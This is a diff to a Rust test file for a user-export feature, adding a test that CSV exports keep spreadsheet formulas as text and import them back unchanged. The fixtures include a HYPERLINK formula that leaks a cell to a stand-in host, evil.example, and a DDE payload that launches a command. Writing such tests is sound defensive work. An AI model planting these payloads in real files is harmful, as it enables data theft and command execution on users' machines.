@@ -195,7 +195,7 @@ async fn an_export_holds_no_secret_and_imports_back() {
         .unwrap();
     assert!(csv.starts_with("username,email,full_name,mobile_phone,roles,password_hash"));
     assert!(
-        csv.contains("ann,ann@example.com,,+13035551212,admin,,,false,false,true"),
+        csv.contains("ann,ann@example.com,,'+13035551212,admin,,,false,false,true"),
         "{csv}"
     );
     assert!(!csv.contains("$argon2"));
@@ -219,4 +219,46 @@ async fn an_export_holds_no_secret_and_imports_back() {
         .await
         .unwrap();
     assert_eq!(bad.status(), 400);
+}
+
+#[tokio::test]
+async fn a_csv_export_keeps_formulas_as_text_and_imports_them_back_as_they_were() {
+    let app = spawn_app().await;
+    let formula = r#"=HYPERLINK("https://evil.example/?leak="&A1,"open")"#;
+    app.create_user("fay", json!({"fullName": formula})).await;
+    app.create_user("gus", json!({"fullName": "@SUM(1+1)*cmd|' /C calc'!A0"}))
+        .await;
+    let csv = app
+        .with_key(Method::GET, "/api/user/export?format=csv")
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    // No cell starts with a formula's first character: each is kept as text by a leading '.
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?} in {csv}"
+            );
+        }
+    }
+    assert!(csv.contains("'=HYPERLINK("), "{csv}");
+    assert!(csv.contains("'@SUM("), "{csv}");
+
+    let other = spawn_app().await;
+    let response = import(&other, "text/csv", csv).await;
+    assert_eq!(response.json::<Value>().await.unwrap()["created"], 2);
+    let fay: Value = other
+        .with_key(Method::GET, "/api/user?username=fay")
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(fay["user"]["fullName"], formula);
 }
